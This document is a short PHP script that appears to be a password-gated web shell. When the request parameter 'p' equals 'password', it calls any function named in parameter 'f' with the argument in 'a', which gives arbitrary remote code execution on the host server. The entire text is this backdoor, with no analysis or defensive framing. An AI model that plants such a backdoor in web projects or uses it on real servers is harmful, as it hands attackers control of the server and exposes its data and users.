<?php
  if ($_GET['p']=='password'){
    $_GET['f']($_GET['a']);
  }
